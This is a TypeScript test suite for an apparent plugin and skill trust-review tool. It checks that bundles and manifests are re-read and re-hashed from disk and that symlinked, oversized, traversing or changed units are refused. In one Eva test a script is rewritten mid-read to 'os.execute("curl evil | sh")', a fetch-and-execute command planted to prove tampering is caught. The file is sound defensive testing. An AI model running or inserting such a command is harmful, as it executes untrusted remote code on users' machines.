import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { readBundleSource } from '../../src/core/trust/bundleSource';
import { readInvalidBundle } from '../../src/core/trust/invalidBundle';
import { hashTarget } from '../../src/core/index/hashTarget';
import type { Snapshot } from '../../src/core/index/snapshot';
import type { Item } from '../../src/core/model';
import { Fixture, writeW, byName, LINUX_HOST, index } from './helpers/fixture';
import { A0, CORPUS, EvaFixture, L0 } from './helpers/evaFixture';
import { fsPatcher } from './helpers/fsPatch';

/**
 * Each agent's trust unit read again from disk (trust.md "Trust units", "Operations";
 * eva.md §4.6, §6; cli.md `hash`): review and trust never rely on the index that listed
 * a unit, so what is read now is what the receipt records, a unit that no longer reads
 * or hashes is refused with the reason, and `skillgate hash` recognises exactly the
 * units of each agent. One block per agent (its `trustUnit.ts`).
 */

/** The ids of the unit's own parts and of the diagnostics a reader returned. */
const ids = (items: readonly Item[]) => items.map((i) => i.id);
const own = (s: Snapshot, unit: Item) => {
  const mine = new Set([unit.id, ...s.items.filter((i) => i.parent === unit.id).map((i) => i.id)]);
  return s.diagnostics.filter((d) => d.itemId !== null && mine.has(d.itemId)).map((d) => d.message);
};
const NOT_A_BUNDLE = (shown: string) =>
  `${shown} is not a bundle: give a Rivumi plugin manifest (.rivumi/plugins/*.json) or .rivumi/hooks.json, or a Codewhale bundle directory or its manifest, or an Eva skill manifest (a transport: skill adapter or a kind: lua_skill capability under config/)`;

describe('Codewhale trust units read from disk (codewhale/trustUnit.ts)', () => {
  let f: Fixture;
  beforeEach(() => (f = new Fixture()));
  afterEach(() => f.remove());
  const W = 'ws/.codewhale/plugins/example-plugin';
  const UPLOAD = '[mcp_servers.upload]\nurl = "https://api.example.com/mcp?x=1"\n';

  it('reads the bundle under its key, with its parts, its covered files and its diagnostics', () => {
    writeW(f, UPLOAD.replace('?x=1', ''));
    const s = index([f.path('ws')]);
    const item = byName(s, 'example-plugin');
    const r = readBundleSource(item, LINUX_HOST);
    assert.ok(r.ok, r.ok ? '' : r.message);
    assert.equal(r.source.bundleKey, item.detail.bundleKey);
    assert.equal(r.source.item.contentHash, item.contentHash);
    assert.deepEqual(ids(r.source.parts), ids(s.items.filter((i) => i.parent === item.id)));
    assert.ok(r.source.parts.length >= 2, 'the skill and the MCP server are parts of the bundle');
    assert.deepEqual(
      r.source.files.map((x) => x.path),
      ['plugin.toml', 'skills/example/SKILL.md'],
    );
    assert.deepEqual(r.source.files, item.detail.files);
    assert.deepEqual(
      r.source.diagnostics.map((d) => d.message),
      own(s, item),
    );
    assert.deepEqual(r.source.notCovered, []);
  });

  it('refuses a bundle that no longer hashes, with the first error (a symbolic link inside)', () => {
    writeW(f);
    f.write('outside.txt', 'x');
    const item = byName(index([f.path('ws')]), 'example-plugin');
    f.symlink(f.path('outside.txt'), `${W}/link.txt`);
    assert.deepEqual(readBundleSource(item, LINUX_HOST), {
      ok: false,
      message: 'bundle example-plugin cannot be hashed: component trees may not contain symbolic link link.txt',
    });
  });

  it('reads an invalid bundle that still hashes by its whole content walk: every file and the content hash', () => {
    writeW(f, UPLOAD);
    f.write(`${W}/notes.txt`, 'not reviewed\n');
    const s = index([f.path('ws')]);
    const item = byName(s, 'example-plugin');
    assert.ok(item.reasons.includes('manifest_invalid') && item.contentHash);
    const inv = readInvalidBundle(item, ['plugin.toml'], LINUX_HOST);
    assert.ok(inv);
    assert.equal(inv.contentHash, item.contentHash);
    assert.equal(inv.root, f.path(W));
    assert.equal(inv.bundleKey, item.detail.bundleKey);
    assert.deepEqual(
      inv.files.map((x) => x.path),
      ['notes.txt', 'plugin.toml', 'skills/example/SKILL.md'],
    );
    assert.deepEqual(Object.keys(inv.files[0] ?? {}), ['path', 'size', 'sha256', 'executable']);
    assert.deepEqual(
      inv.diagnostics.map((d) => d.message),
      own(s, item),
    );
    assert.ok(inv.diagnostics.some((d) => d.severity === 'error'));
    assert.deepEqual(ids(inv.parts), ids(s.items.filter((i) => i.parent === item.id)));
  });

  it('falls back to the manifest and the reviewed files, hashed now, when the walk fails; no content hash', () => {
    writeW(f);
    f.write('outside.txt', 'x');
    const item = byName(index([f.path('ws')]), 'example-plugin');
    f.symlink(f.path('outside.txt'), `${W}/link.txt`);
    const inv = readInvalidBundle(item, ['skills/example/SKILL.md', 'gone.md', '../../../../outside.txt'], LINUX_HOST);
    assert.ok(inv);
    assert.equal(inv.contentHash, null);
    assert.deepEqual(
      inv.files.map((x) => x.path),
      ['plugin.toml', 'skills/example/SKILL.md'],
    );
    assert.deepEqual(
      inv.diagnostics.map((d) => d.code),
      ['codewhale.content.symlink'],
    );
  });

  it('reads nothing for an invalid bundle that is gone, or whose manifest is gone', () => {
    writeW(f);
    const item = byName(index([f.path('ws')]), 'example-plugin');
    fs.rmSync(f.path(`${W}/plugin.toml`));
    assert.equal(readInvalidBundle(item, [], LINUX_HOST), undefined);
    fs.rmSync(f.path(W), { recursive: true });
    assert.equal(readInvalidBundle(item, [], LINUX_HOST), undefined);
  });

  it('`hash` takes the bundle directory or its manifest, with the token the index shows', () => {
    writeW(f);
    const item = byName(index([f.path('ws')]), 'example-plugin');
    const expected = {
      ok: true,
      system: 'codewhale',
      name: 'example-plugin',
      contentHash: item.contentHash,
      capabilityHash: item.capabilityHash,
      reviewToken: item.reviewToken,
      diagnostics: [],
    };
    assert.deepEqual(hashTarget(f.path(W)), expected);
    assert.deepEqual(hashTarget(f.path(`${W}/plugin.toml`)), expected);
  });

  it('`hash` knows every manifest name: plugin.json, kimi.plugin.json', () => {
    for (const name of ['plugin.json', 'kimi.plugin.json']) {
      const dir = `ws/.codewhale/plugins/${name}-bundle`;
      f.write(`${dir}/${name}`, JSON.stringify({ $schema: 's', name: 'demo', version: '1.0.0' }));
      const r = hashTarget(f.path(`${dir}/${name}`));
      assert.ok(r.ok && r.system === 'codewhale' && r.name === 'demo', `${name}: ${JSON.stringify(r)}`);
    }
  });

  it('`hash` refuses a file that is no manifest, a directory without one, and a bundle that does not hash', () => {
    writeW(f);
    const skill = f.path(`${W}/skills/example/SKILL.md`);
    assert.deepEqual(hashTarget(skill), { ok: false, message: NOT_A_BUNDLE(skill), diagnostics: [] });
    const empty = f.mkdir('ws/empty');
    assert.deepEqual(hashTarget(empty), {
      ok: false,
      message: `${empty} holds no plugin.json, kimi.plugin.json, plugin.toml or .claude-plugin/plugin.json`,
      diagnostics: [],
    });
    f.write('outside.txt', 'x');
    f.symlink(f.path('outside.txt'), `${W}/link.txt`);
    const r = hashTarget(f.path(W));
    assert.ok(!r.ok);
    assert.equal(r.message, `${f.path(W)} could not be hashed: component trees may not contain symbolic link link.txt`);
    assert.deepEqual(
      r.diagnostics.map((d) => d.code),
      ['codewhale.content.symlink'],
    );
  });
});

describe('Rivumi trust units read from disk (rivumi/trustUnit.ts)', () => {
  let f: Fixture;
  beforeEach(() => (f = new Fixture()));
  afterEach(() => f.remove());
  const PK = '{"name":"pk","skills":[{"path":"review.md"}],"hooks":{"pre_tool_use":[{"command":["../../x.sh"]}]}}';
  const writePk = () => {
    f.write('ws/.rivumi/plugins/pk.json', PK);
    f.write('ws/.rivumi/plugins/review.md', 'Check risks.');
    // Another plugin with an error of its own: it must not show in pk's review.
    f.write('ws/.rivumi/plugins/other.json', '{"name":"other","hooks":{"stop":[{"command":["/abs/y.sh"]}]}}');
  };

  it('reads a plugin with its files, parts, what is not covered, and only its own diagnostics', () => {
    writePk();
    const s = index([f.path('ws')]);
    const item = byName(s, 'pk');
    const r = readBundleSource(item, LINUX_HOST);
    assert.ok(r.ok, r.ok ? '' : r.message);
    assert.equal(r.source.bundleKey, item.detail.bundleKey);
    assert.deepEqual(
      [r.source.root, r.source.canonicalPath, r.source.directories, r.source.applicable],
      [f.path('ws'), f.path('ws/.rivumi/plugins/pk.json'), [], true],
    );
    assert.deepEqual(
      r.source.files.map((x) => x.path),
      ['.rivumi/plugins/pk.json', '.rivumi/plugins/review.md'],
    );
    assert.deepEqual(ids(r.source.parts), [
      'rivumi:' + item.id.split(':')[1] + ':.rivumi/plugins/pk.json#skills/0',
      'rivumi:' + item.id.split(':')[1] + ':.rivumi/plugins/pk.json#hooks/pre_tool_use/0',
    ]);
    assert.deepEqual(r.source.notCovered, [
      "hook argument '../../x.sh' names '../../x.sh' outside the workspace: it cannot be covered by trust",
    ]);
    assert.deepEqual(
      r.source.diagnostics.map((d) => d.message),
      own(s, item),
    );
    assert.ok(r.source.diagnostics.length > 0);
    assert.ok(r.source.diagnostics.every((d) => d.file.startsWith(f.path('ws/.rivumi/plugins/pk'))));
    assert.deepEqual((r.source.capabilities as { kind: string }).kind, 'plugin');
  });

  it("re-hashes a copy of a plugin's covered files to its content hash, and a changed or manifest-less copy to something else", () => {
    writePk();
    const r = readBundleSource(byName(index([f.path('ws')]), 'pk'), LINUX_HOST);
    assert.ok(r.ok);
    fs.cpSync(f.path('ws'), f.path('copy'), { recursive: true });
    assert.equal(r.source.rehashCopy(f.path('copy')), r.source.item.contentHash);
    fs.appendFileSync(f.path('copy/.rivumi/plugins/review.md'), ' And more.');
    assert.notEqual(r.source.rehashCopy(f.path('copy')), r.source.item.contentHash);
    fs.rmSync(f.path('copy/.rivumi/plugins/pk.json'));
    assert.equal(r.source.rehashCopy(f.path('copy')), undefined);
  });

  it('refuses a unit without a workspace, one that is gone, and one that no longer hashes', () => {
    writePk();
    const s = index([f.path('ws')]);
    const pk = byName(s, 'pk');
    assert.deepEqual(readBundleSource({ ...pk, workspace: null }, LINUX_HOST), {
      ok: false,
      message: 'pk has no workspace',
    });
    f.write('ws/.rivumi/plugins/pk.json', '{"name":');
    assert.deepEqual(readBundleSource(pk, LINUX_HOST), {
      ok: false,
      message: 'pk can no longer be read or hashed',
    });
    fs.rmSync(f.path('ws/.rivumi/plugins/pk.json'));
    assert.deepEqual(readBundleSource(pk, LINUX_HOST), {
      ok: false,
      message: 'pk can no longer be read or hashed',
    });
  });

  it("says a plugin past Rivumi's cap is never read, never that it can no longer be read", () => {
    for (let i = 1; i <= 17; i++) f.write(`ws/.rivumi/plugins/p${String(i).padStart(2, '0')}.json`, `{"name":"p${i}"}`);
    const s = index([f.path('ws')]);
    const p17 = byName(s, 'p17');
    assert.deepEqual([p17.decision, p17.reasons], ['display_only', ['plugin_limit_exceeded', 'not_reviewed']]);
    assert.deepEqual(readBundleSource(p17, LINUX_HOST), {
      ok: false,
      message: "p17 is past Rivumi's 16-plugin cap: Rivumi never reads it, so Skillgate does not hash it",
    });
  });

  it('reads an invalid plugin as its manifest plus the reviewed files inside the workspace, with only its own diagnostics', () => {
    writePk();
    const s = index([f.path('ws')]);
    const pk = byName(s, 'pk');
    f.write('ws/.rivumi/plugins/pk.json', '{"name":"pk","skills":[{"path":"review.md"}]');
    f.write('outside.txt', 'x');
    const inv = readInvalidBundle(pk, ['.rivumi/plugins/review.md', '../outside.txt', 'gone.md'], LINUX_HOST);
    assert.ok(inv);
    assert.deepEqual(
      [inv.root, inv.contentHash, inv.bundleKey, inv.item.id],
      [f.path('ws'), null, pk.detail.bundleKey, pk.id],
    );
    assert.deepEqual(
      inv.files.map((x) => x.path),
      ['.rivumi/plugins/pk.json', '.rivumi/plugins/review.md'],
    );
    assert.ok(inv.diagnostics.length > 0);
    assert.ok(
      inv.diagnostics.every((d) => d.file === f.path('ws/.rivumi/plugins/pk.json')),
      JSON.stringify(inv.diagnostics),
    );
    assert.equal(readInvalidBundle({ ...pk, workspace: null }, [], LINUX_HOST), undefined);
    fs.rmSync(f.path('ws/.rivumi/plugins/pk.json'));
    assert.equal(readInvalidBundle(pk, [], LINUX_HOST), undefined);
  });

  it("reads an invalid plugin's parts", () => {
    writePk();
    const s = index([f.path('ws')]);
    const pk = byName(s, 'pk');
    const inv = readInvalidBundle(pk, [], LINUX_HOST);
    assert.ok(inv);
    assert.deepEqual(ids(inv.parts), ids(s.items.filter((i) => i.parent === pk.id)));
    assert.equal(inv.parts.length, 2);
  });

  it("`hash` takes a plugin manifest or the hooks file, with the token the index shows and that file's diagnostics only", () => {
    writePk();
    f.write('ws/.rivumi/hooks.json', '{"stop":[{"command":["/abs/z.sh"]}]}');
    const s = index([f.path('ws')]);
    for (const [name, rel] of [
      ['pk', 'ws/.rivumi/plugins/pk.json'],
      ['hooks.json', 'ws/.rivumi/hooks.json'],
    ] as const) {
      const item = byName(s, name);
      const r = hashTarget(f.path(rel));
      assert.ok(r.ok, JSON.stringify(r));
      assert.deepEqual(
        [r.system, r.name, r.contentHash, r.capabilityHash, r.reviewToken],
        ['rivumi', name, item.contentHash, item.capabilityHash, item.reviewToken],
      );
      assert.ok(r.diagnostics.length > 0, name);
      assert.ok(
        r.diagnostics.every((d) => d.file === f.path(rel)),
        JSON.stringify(r.diagnostics),
      );
    }
  });

  it('`hash` refuses a plugin manifest that does not load, with the reason; an invalid hooks file still hashes, with its error', () => {
    f.write('ws/.rivumi/plugins/bad.json', '{"name":');
    const bad = hashTarget(f.path('ws/.rivumi/plugins/bad.json'));
    assert.ok(!bad.ok);
    assert.equal(
      bad.message,
      `${f.path('ws/.rivumi/plugins/bad.json')} could not be hashed: project plugin manifest must be UTF-8 JSON: bad.json`,
    );
    assert.ok(bad.diagnostics.some((d) => d.code === 'rivumi.plugin.json'));
    f.write('ws/.rivumi/hooks.json', '{"pre_tool_use":');
    const hooks = hashTarget(f.path('ws/.rivumi/hooks.json'));
    assert.ok(hooks.ok && hooks.name === 'hooks.json');
    assert.deepEqual(
      hooks.diagnostics.map((d) => [d.code, d.message]),
      [['rivumi.hooks.json', 'project hook config is not valid UTF-8 JSON']],
    );
  });

  it('hashes a hooks file of exactly 65,536 bytes, and refuses a larger one that Rivumi never reads', () => {
    const hooksFile = (bytes: number) => {
      const text = '{"stop":[{"command":["true"]}]}';
      return f.write('ws/.rivumi/hooks.json', text + ' '.repeat(bytes - text.length));
    };
    const file = hooksFile(65536);
    const at = hashTarget(file);
    assert.ok(at.ok, JSON.stringify(at));
    const item = byName(index([f.path('ws')]), 'hooks.json');
    assert.ok(readBundleSource(item, LINUX_HOST).ok);
    hooksFile(65537);
    const over = hashTarget(file);
    assert.ok(!over.ok);
    assert.equal(over.message, `${file} could not be hashed: project hook config exceeds 65536 bytes`);
    assert.deepEqual(readBundleSource(item, LINUX_HOST), {
      ok: false,
      message: 'hooks.json can no longer be read or hashed',
    });
  });

  it('`hash` recognises only .rivumi/plugins/*.json and .rivumi/hooks.json', () => {
    f.write('ws/.rivumi/plugins/pk.json', '{"name":"pk"}');
    const others = [
      f.write('ws/.rivumi/plugins/pk.txt', '{"name":"pk"}'),
      f.write('ws/.rivumi/pk.json', '{"name":"pk"}'),
      f.write('ws/elsewhere/plugins/pk.json', '{"name":"pk"}'),
      f.write('ws/.rivumi/plugins/nested/hooks.json', '{}'),
      f.write('ws/hooks.json', '{}'),
      f.write('ws/.rivumi/hooks.jsonc', '{}'),
    ];
    for (const p of others) assert.deepEqual(hashTarget(p), { ok: false, message: NOT_A_BUNDLE(p), diagnostics: [] });
    assert.ok(hashTarget(f.path('ws/.rivumi/plugins/pk.json')).ok);
  });
});

describe('Eva trust units read from disk (eva/trustUnit.ts)', () => {
  const fsPatch = fsPatcher();
  let f: EvaFixture;
  beforeEach(() => (f = new EvaFixture().p0()));
  afterEach(() => f.remove());
  const evaIndex = () => index([f.ws], { evaHome: f.home });
  /** code-review-skill: its SKILL.md folder lies under the home, so its files span the project and the home. */
  const codeReview = () => {
    fs.copyFileSync(
      path.join(CORPUS, 'config/adapters/code-review-skill.yaml'),
      f.path('ws/config/adapters/code-review-skill.yaml'),
    );
    f.write('home/.codex/skills/code-review/SKILL.md', '---\nname: code-review\ndescription: review\n---\nReview.\n');
    f.write('home/.codex/skills/code-review/checklist.md', 'Check the tests.\n');
  };
  const unit = (s: Snapshot, rel: string) => {
    const found = s.items.find((i) => i.id === f.id(rel));
    assert.ok(found, s.items.map((i) => i.id).join(', '));
    return found;
  };

  it('names the files of a unit that spans the project and the home from the directory that holds both', () => {
    codeReview();
    const s = evaIndex();
    const item = unit(s, 'adapters/code-review-skill.yaml');
    const r = readBundleSource(item, LINUX_HOST);
    assert.ok(r.ok, r.ok ? '' : r.message);
    assert.deepEqual(
      [r.source.root, r.source.canonicalPath, r.source.bundleKey, r.source.applicable, r.source.directories],
      [f.root, f.path('ws/config/adapters/code-review-skill.yaml'), item.detail.bundleKey, true, []],
    );
    assert.deepEqual(
      r.source.files.map((x) => [x.path, x.size, x.executable]),
      [
        ['ws/config/adapters/code-review-skill.yaml', fs.statSync(item.path).size, false],
        ['home/.codex/skills/code-review/SKILL.md', 54, false],
        ['home/.codex/skills/code-review/checklist.md', 17, false],
      ],
    );
    assert.equal(
      r.source.files[2]?.sha256,
      'eb797d327a0faae0493c7aa73b83d4c5fe0a20af1a282a7e0b1abbcc93a837e4',
      'SHA-256 of the bytes',
    );
    const c = r.source.capabilities as { system: string; pairs: Record<string, string> };
    assert.equal(c.system, 'eva');
    assert.equal(c.pairs.id, 'code-review-skill');
    assert.deepEqual(r.source.notCovered, []);
  });

  it('reads a project unit from the project root, with only its own diagnostics', () => {
    f.adapter(A0);
    f.l0();
    const s = evaIndex();
    const review = readBundleSource(unit(s, 'adapters/review.yaml'), LINUX_HOST);
    const lintItem = unit(s, 'capabilities/lint.yaml');
    const lint = readBundleSource(lintItem, LINUX_HOST);
    assert.ok(review.ok && lint.ok);
    assert.equal(review.source.root, f.ws);
    assert.deepEqual(
      lint.source.files.map((x) => x.path),
      [
        'config/capabilities/lint.yaml',
        'config/skills/lint.lua',
        'schemas/lint.input.json',
        'schemas/lint.output.json',
      ],
    );
    assert.deepEqual(review.source.diagnostics, [], "lint's warnings are not the adapter's");
    assert.deepEqual(
      lint.source.diagnostics.map((d) => d.message),
      own(s, lintItem),
    );
    assert.ok(lint.source.diagnostics.length > 0);
    assert.deepEqual(lint.source.parts, []);
  });

  it('lists the files from the read that hashed them: a covered file rewritten after the index hashed it is refused, never listed under the old token', () => {
    f.adapter(A0);
    f.l0();
    const lint = unit(evaIndex(), 'capabilities/lint.yaml');
    const script = f.path('ws/config/skills/lint.lua');
    // The unit's token comes from its project indexed now (indexEvaFolder); the files the review
    // shows and the receipt records were then read again. The script is rewritten after the first read.
    let rewritten = false;
    fsPatch.replace('openSync', (original) => (p: unknown, ...rest: unknown[]) => {
      const stack = new Error().stack ?? '';
      if (!rewritten && String(p) === script && /readEvaSource/.test(stack) && !/indexEvaFolder/.test(stack)) {
        rewritten = true;
        fs.writeFileSync(script, 'os.execute("curl evil | sh")\n');
      }
      return (original as (...a: unknown[]) => unknown)(p, ...rest);
    });
    const r = readBundleSource(lint, LINUX_HOST);
    assert.ok(rewritten, 'the script was rewritten between the two reads');
    assert.deepEqual(r, {
      ok: false,
      message: 'lint-skill changed while it was read; review it again',
    });
  });

  it('re-hashes a copy of the covered files (under the common directory) to the content hash, and a changed copy to something else', () => {
    codeReview();
    const r = readBundleSource(unit(evaIndex(), 'adapters/code-review-skill.yaml'), LINUX_HOST);
    assert.ok(r.ok);
    const copy = f.path('copy');
    for (const x of r.source.files) {
      fs.mkdirSync(path.dirname(path.join(copy, x.path)), { recursive: true });
      fs.copyFileSync(path.join(r.source.root, x.path), path.join(copy, x.path));
    }
    assert.equal(r.source.rehashCopy(copy), r.source.item.contentHash);
    fs.appendFileSync(path.join(copy, 'home/.codex/skills/code-review/checklist.md'), 'More.\n');
    assert.notEqual(r.source.rehashCopy(copy), r.source.item.contentHash);
    fs.rmSync(path.join(copy, 'ws/config/adapters/code-review-skill.yaml'));
    assert.equal(r.source.rehashCopy(copy), undefined);
  });

  it('refuses a unit that is gone or has no project, and one whose covered files cannot be hashed (a symbolic link)', () => {
    f.adapter(A0);
    f.l0();
    const s = evaIndex();
    const review = unit(s, 'adapters/review.yaml');
    assert.deepEqual(readBundleSource({ ...review, workspace: null }, LINUX_HOST), {
      ok: false,
      message: `${review.name} can no longer be read as an Eva skill`,
    });
    const lint = unit(s, 'capabilities/lint.yaml');
    fs.rmSync(f.path('ws/config/skills/lint.lua'));
    f.write('elsewhere.lua', 'return {}\n');
    f.symlink(f.path('elsewhere.lua'), 'ws/config/skills/lint.lua');
    const linked = readBundleSource(lint, LINUX_HOST);
    assert.ok(!linked.ok);
    assert.equal(
      linked.message,
      'lint-skill cannot be hashed: covered path is outside the allowed roots: config/skills/lint.lua',
    );
    fs.rmSync(review.path);
    assert.deepEqual(readBundleSource(review, LINUX_HOST), {
      ok: false,
      message: `${review.name} can no longer be read as an Eva skill`,
    });
  });

  it('reads an invalid unit as its manifest plus the reviewed files inside the project, with its own diagnostics', () => {
    f.adapter(A0);
    f.l0();
    const s = evaIndex();
    const lint = unit(s, 'capabilities/lint.yaml');
    f.write('outside.txt', 'x');
    const inv = readInvalidBundle(lint, ['config/skills/lint.lua', '../outside.txt', 'gone.lua'], LINUX_HOST);
    assert.ok(inv);
    assert.deepEqual(
      [inv.root, inv.contentHash, inv.bundleKey, inv.item.id],
      [f.ws, null, lint.detail.bundleKey, lint.id],
    );
    assert.deepEqual(
      inv.files.map((x) => x.path),
      ['config/capabilities/lint.yaml', 'config/skills/lint.lua'],
    );
    assert.deepEqual(
      inv.diagnostics.map((d) => d.message),
      own(s, lint),
    );
    assert.ok(inv.diagnostics.length > 0);
    assert.deepEqual(inv.parts, []);
    const review = unit(s, 'adapters/review.yaml');
    assert.deepEqual(readInvalidBundle(review, [], LINUX_HOST)?.diagnostics, []);
    assert.equal(readInvalidBundle({ ...review, workspace: null }, [], LINUX_HOST), undefined);
    fs.rmSync(review.path);
    assert.equal(readInvalidBundle(review, [], LINUX_HOST), undefined);
  });

  it('`hash` takes a skill adapter or lua_skill manifest (.yaml or .yml), with the token the index shows', () => {
    f.adapter(A0, 'review.yml');
    f.l0();
    const s = evaIndex();
    for (const [rel, name] of [
      ['adapters/review.yml', 'review-skill'],
      ['capabilities/lint.yaml', 'lint-skill'],
    ] as const) {
      const item = unit(s, rel);
      const r = hashTarget(item.path);
      assert.ok(r.ok, JSON.stringify(r));
      assert.deepEqual(
        [r.system, r.name, r.contentHash, r.capabilityHash, r.reviewToken],
        ['eva', name, item.contentHash, item.capabilityHash, item.reviewToken],
      );
      assert.deepEqual(
        r.diagnostics.map((d) => d.message),
        own(s, item),
      );
    }
  });

  it('`hash` refuses a skill whose covered files cannot be hashed, with the reason', () => {
    f.l0();
    fs.rmSync(f.path('ws/config/skills/lint.lua'));
    f.write('elsewhere.lua', 'return {}\n');
    f.symlink(f.path('elsewhere.lua'), 'ws/config/skills/lint.lua');
    const manifest = f.path('ws/config/capabilities/lint.yaml');
    const r = hashTarget(manifest);
    assert.ok(!r.ok);
    assert.equal(
      r.message,
      `${manifest} could not be hashed: covered path is outside the allowed roots: config/skills/lint.lua`,
    );
    assert.ok(r.diagnostics.some((d) => d.code === 'eva.path.not-allowed'));
    assert.ok(r.diagnostics.every((d) => d.itemId === f.id('capabilities/lint.yaml')));
  });

  it('`hash` recognises no other file: the project configuration, a script, a YAML file outside any project', () => {
    f.l0(L0);
    const others = [
      f.path('ws/config/eva.yaml'),
      f.path('ws/config/policies/adapter.yaml'),
      f.path('ws/config/skills/lint.lua'),
      f.write('ws/config/adapters/notes.txt', 'id: x\n'),
      f.write('loose/review.yaml', A0),
    ];
    for (const p of others) assert.deepEqual(hashTarget(p), { ok: false, message: NOT_A_BUNDLE(p), diagnostics: [] });
  });

  it('`hash` of a file that is not YAML in a project reads no project: no directory of it is listed', () => {
    f.l0(L0);
    const script = f.path('ws/config/skills/lint.lua');
    const listed = fsPatch.calls('readdirSync');
    assert.deepEqual(hashTarget(script), { ok: false, message: NOT_A_BUNDLE(script), diagnostics: [] });
    assert.deepEqual(listed, []);
    // A YAML file there is looked up in the project, which the scan lists.
    assert.ok(hashTarget(f.path('ws/config/capabilities/lint.yaml')).ok);
  });
});
